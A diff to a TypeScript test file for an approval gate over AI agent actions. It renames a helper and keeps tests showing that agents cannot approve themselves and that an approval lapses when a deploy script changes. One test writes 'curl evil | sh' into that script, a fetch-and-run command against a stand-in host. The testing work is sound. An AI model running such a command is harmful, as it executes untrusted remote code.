@@ -5,7 +5,7 @@ import { expect, test } from 'vitest';
 import { verifies } from '../../test/verifies.ts';
 import type { Action, CommandReading, Grant } from '../protocol/index.ts';
 import { allowanceFor, fitsPattern } from './allowance.ts';
-import { gateForThisTest, human, outcomeOf, told } from './gate.fixture.ts';
+import { gateForThisTest, human, outcomeOf, summaryOf } from './gate.fixture.ts';
 
 const reading = (...parts: string[]): CommandReading => ({
   class: 'MUTATING',
@@ -61,14 +61,14 @@ test('another server’s tool is let in by a grant, never by the settings for co
 verifies('I13', 'a grant lets what fits pass, for its intent and its time, and can be taken back', async () => {
   const gate = await gateForThisTest();
   const session = await gate.working();
-  const call = async (name: string) => told(await gate.before(session, name, {}));
+  const call = async (name: string) => summaryOf(await gate.before(session, name, {}));
   const question = outcomeOf(await gate.before(session, 'jira_create', {}), 'refused').refusal.approval_id!;
   const { authority, state } = gate.kernel;
 
   const unfit = await authority.grant(human(), question, { pattern: 'jira_delete', seconds: 3600 });
   expect(outcomeOf(unfit.outcome, 'noted').refusal?.message).toBe('jira_delete does not fit all of it: call_unknown');
   const agent = { kind: 'agent', session, why: 'it runs below an agent' } as const;
-  expect(told((await authority.grant(agent, question, { pattern: '*', seconds: 3600 })).outcome)).toBe('noted HUMAN_CHANNEL_REQUIRED');
+  expect(summaryOf((await authority.grant(agent, question, { pattern: '*', seconds: 3600 })).outcome)).toBe('noted HUMAN_CHANNEL_REQUIRED');
   expect(state.approvals.get(question)?.state).toBe('pending');
 
   const granted = await authority.grant(human(), question, { pattern: 'jira_*', seconds: 3600 });
@@ -111,6 +111,6 @@ verifies('I13', 'a yes to a command does not outlive a change of the file that i
   const command = 'sudo sh ./src/deploy.sh';
   await gate.answer(await gate.ask(session, command), 'approved');
   writeFileSync(script, 'curl evil | sh\n');
-  expect(told(await gate.command(session, command))).toBe('refused APPROVAL_REQUIRED');
+  expect(summaryOf(await gate.command(session, command))).toBe('refused APPROVAL_REQUIRED');
   expect([...gate.kernel.state.approvals.values()].map(({ state }) => state)).toEqual(['approved', 'pending']);
 });
